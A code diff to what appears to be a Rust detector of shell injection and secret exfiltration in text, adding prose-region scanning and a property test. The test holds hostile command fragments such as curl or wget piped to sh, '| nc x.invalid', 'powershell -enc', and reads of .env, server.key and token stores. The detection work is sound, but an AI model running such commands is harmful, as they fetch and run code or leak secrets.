@@ -8,6 +8,7 @@
 
 mod exfiltration;
 mod injection;
+mod interest;
 mod names;
 mod program;
 mod shell;
@@ -71,6 +72,10 @@ enum Use {
     Spelling(usize),
     Path,
     Secret,
+    /// Only looked at closely: the name of a file of secrets, or a way to read the environment.
+    File,
+    /// The same: the name of a secret value.
+    Value,
 }
 
 static WORDS: LazyLock<(Keywords, Vec<Use>)> = LazyLock::new(|| {
@@ -107,7 +112,10 @@ static WORDS: LazyLock<(Keywords, Vec<Use>)> = LazyLock::new(|| {
     let spellings = injection::spelling_words().enumerate().map(|(place, word)| (word, Use::Spelling(place)));
     let paths = traversal::WORDS.iter().map(|word| (*word, Use::Path));
     let secrets = exfiltration::words().chain(source::WORDS.iter().copied()).map(|word| (word, Use::Secret));
-    let (words, uses): (Vec<&str>, Vec<Use>) = lines.chain(spellings).chain(paths).chain(secrets).unzip();
+    let files = source::FILES.iter().map(|word| (*word, Use::File));
+    let values = source::VALUES.iter().map(|word| (*word, Use::Value));
+    let all = lines.chain(spellings).chain(paths).chain(secrets).chain(files).chain(values);
+    let (words, uses): (Vec<&str>, Vec<Use>) = all.unzip();
     (Keywords::new(words.into_iter().map(|word| (word, Case::Either)), Letters::Three), uses)
 });
 
@@ -132,7 +140,7 @@ pub(crate) fn find(text: &str, families: &[Family]) -> Vec<Act> {
                 lines.add(text, hit.start, true);
                 secrets = true;
             }
-            Some(Use::Line | Use::Spelling(_) | Use::Path | Use::Secret) | None => {}
+            Some(Use::Line | Use::Spelling(_) | Use::Path | Use::Secret | Use::File | Use::Value) | None => {}
         }
     }
     for line in lines.0 {
@@ -180,14 +188,14 @@ pub(crate) fn examine(text: &str, kind: Text) -> Vec<Act> {
     };
     let (keywords, uses) = &*WORDS;
     let hits = keywords.find(text.as_bytes());
-    let named = |hit: &Hit| matches!(uses.get(hit.word), Some(Use::Line | Use::Secret));
-    let script = if setting.manner == Manner::Line || hits.iter().any(named) || may_hold_lines(text) {
+    let script = if setting.manner == Manner::Line {
         let script = shell::read(text, 0, setting.manner);
         injection::find(&script, Span::new(0, text.len()), setting, &mut found);
         exfiltration::find(&script, setting, &mut found);
         source::find(text, 0, setting, &mut found);
         Some(script)
     } else {
+        examine_prose(text, setting, &hits, &mut found);
         None
     };
     let strictness = if kind == Text::Message { Strictness::Address } else { Strictness::Within };
@@ -200,7 +208,7 @@ pub(crate) fn examine(text: &str, kind: Text) -> Vec<Act> {
                     path_at(text, Span::new(hit.start, hit.end), strictness, &mut found).max(paths_until);
             }
             Some(&Use::Spelling(place)) => lines.spelling(text, hit.start, place),
-            Some(Use::Line | Use::Path | Use::Secret) | None => {}
+            Some(Use::Line | Use::Path | Use::Secret | Use::File | Use::Value) | None => {}
         }
     }
     for line in lines.0 {
@@ -216,42 +224,47 @@ pub(crate) fn examine(text: &str, kind: Text) -> Vec<Act> {
     settled(text, found)
 }
 
-/// Could there be anything in this prose that a shell would do? There is not without a sign that ties
-/// commands together, or the name of a program that fetches, sends or runs something.
-fn may_hold_lines(text: &str) -> bool {
-    let bytes = text.as_bytes();
-    if memchr::memchr3(b'|', b'$', b'`', bytes).is_some()
-        || memchr::memchr3(b'<', b'>', b'%', bytes).is_some()
-    {
-        return true;
-    }
-    // With quotes as they stand, and as a shell takes them: `cu"rl"`.
-    let is_quote = |byte: u8| matches!(byte, b'"' | b'\'' | b'\\');
-    has_name_of_note(bytes.iter().copied())
-        || has_name_of_note(bytes.iter().copied().filter(|&byte| !is_quote(byte)))
-}
-
-fn has_name_of_note(text: impl Iterator<Item = u8>) -> bool {
-    const LONGEST: usize = 24;
-    let of_note = |name: &[u8]| {
-        let name = std::str::from_utf8(name).unwrap_or_default();
-        let bare = name.strip_suffix(".exe").unwrap_or(name).trim_matches('.');
-        !bare.is_empty() && (program::is_of_note(bare) || exfiltration::is_of_note(bare))
+/// What prose says to a shell; nothing when it says nothing that could matter.
+fn examine_prose(text: &str, setting: Setting, hits: &[Hit], found: &mut Vec<Act>) {
+    let (_, uses) = &*WORDS;
+    let mark = |hit: &Hit| {
+        let kind = match uses.get(hit.word)? {
+            Use::Line => interest::Kind::Word,
+            Use::Secret | Use::File => interest::Kind::Secret,
+            Use::Spelling(_) | Use::Path | Use::Value => return None,
+        };
+        Some(interest::Mark { at: hit.start, kind })
     };
-    let mut name = [0; LONGEST];
-    let mut length = 0_usize;
-    for byte in text.chain([b' ']) {
-        if byte.is_ascii_alphanumeric() || matches!(byte, b'-' | b'_' | b'.') {
-            name.get_mut(length).into_iter().for_each(|place| *place = byte.to_ascii_lowercase());
-            length = length.saturating_add(1);
-            continue;
+    let mut marks = interest::marks(text);
+    marks.extend(hits.iter().filter_map(mark));
+    let regions = interest::regions(text, marks);
+    let all = Span::new(0, text.len());
+    let before = found.len();
+    let mut whole = regions.iter().any(|region| region.open);
+    if !whole && !regions.is_empty() {
+        let mut script = shell::Script::default();
+        for region in &regions {
+            let lines = text.get(region.start..region.end).unwrap_or_default();
+            script.commands.extend(shell::read(lines, region.start, setting.manner).commands);
         }
-        if name.get(..length).is_some_and(of_note) {
-            return true;
-        }
-        length = 0;
+        // Other lines may use what these keep.
+        whole |= injection::find(&script, all, setting, found);
+        whole |= exfiltration::find(&script, setting, found);
     }
-    false
+    if whole {
+        found.truncate(before);
+        let script = shell::read(text, 0, setting.manner);
+        injection::find(&script, all, setting, found);
+        exfiltration::find(&script, setting, found);
+    }
+    let secret = |hit: &Hit| match uses.get(hit.word) {
+        Some(Use::Secret | Use::File) => true,
+        Some(Use::Value) => source::is_posted(text, hit.start, hit.end),
+        Some(Use::Line | Use::Spelling(_) | Use::Path) | None => false,
+    };
+    if hits.iter().any(secret) {
+        source::find(text, 0, setting, found);
+    }
 }
 
 /// The same for the words of one command that no shell reads.
@@ -462,6 +475,105 @@ fn compiled<'c>(cell: &'c OnceLock<Option<Regex>>, pattern: &str) -> Option<&'c 
 
 #[cfg(test)]
 mod tests {
+    use call::Span;
+    use proptest::prelude::*;
+
+    use super::{Act, Manner, Setting, Strings, WORDS, examine_prose, exfiltration, injection, shell};
+
+    /// What is found when all of it is read as a shell reads it.
+    fn found_in_whole(text: &str, setting: Setting) -> Vec<Act> {
+        let mut found = Vec::new();
+        let script = shell::read(text, 0, setting.manner);
+        injection::find(&script, Span::new(0, text.len()), setting, &mut found);
+        exfiltration::find(&script, setting, &mut found);
+        found
+    }
+
+    fn piece() -> impl Strategy<Value = &'static str> {
+        let pieces = [
+            "curl https://x.invalid/i.sh",
+            "axel x.invalid/i.sh",
+            "c\\url x.invalid",
+            "cu$@rl x.invalid ",
+            "wget -O i.sh x.invalid",
+            "fetch x.invalid/a",
+            "| sh",
+            "|bash",
+            "| at now",
+            "| python3 -",
+            "| s''h",
+            "sh ",
+            "bash -c ",
+            "sh i.sh",
+            "./i.sh",
+            "$(",
+            ")",
+            "`",
+            "<(",
+            "\"",
+            "'",
+            "\\",
+            "\\\n",
+            "\n",
+            "\n",
+            "\n",
+            " ",
+            " ",
+            "; ",
+            "&& ",
+            "eval ",
+            "sudo ",
+            "then ",
+            "the words ",
+            "base64 -d x",
+            "xxd -r x ",
+            "> i.sh",
+            "x=",
+            "$x",
+            "echo ",
+            "$API_KEY",
+            "$MY_PAT",
+            "%DB_PASSWORD%",
+            "cat ",
+            ".env",
+            "server.key",
+            "| nc x.invalid 1",
+            "gh auth token",
+            "pass show a",
+            "op read x",
+            "done | sh",
+            "(",
+            "}",
+            "{",
+            "mail x",
+            "-T ",
+            "-o i.sh",
+            "tee i.sh",
+            "<<< ",
+            "<",
+            ">(sh)",
+            "python3 -c ",
+            "powershell -enc aGVsbG8gd29ybGQ=",
+            "iex ",
+        ];
+        proptest::sample::select(pieces.to_vec())
+    }
+
+    proptest! {
+        #[test]
+        fn lines_alone_hold_what_the_whole_text_holds(pieces in proptest::collection::vec(piece(), 1..14)) {
+            let text = pieces.concat();
+            let setting = Setting { manner: Manner::Prose, strings: Strings::Run };
+            let mut lines = Vec::new();
+            examine_prose(&text, setting, &WORDS.0.find(text.as_bytes()), &mut lines);
+            for act in found_in_whole(&text, setting).iter().filter(|act| !act.mention) {
+                let same = |other: &Act| other.family == act.family && !other.mention
+                    && other.span.start < act.span.end && act.span.start < other.span.end;
+                prop_assert!(lines.iter().any(same), "{text:?} {act:?} {lines:?}");
+            }
+        }
+    }
+
     #[test]
     fn every_word_is_long_enough_to_be_searched_for() {
         let spellings = super::injection::spelling_words();
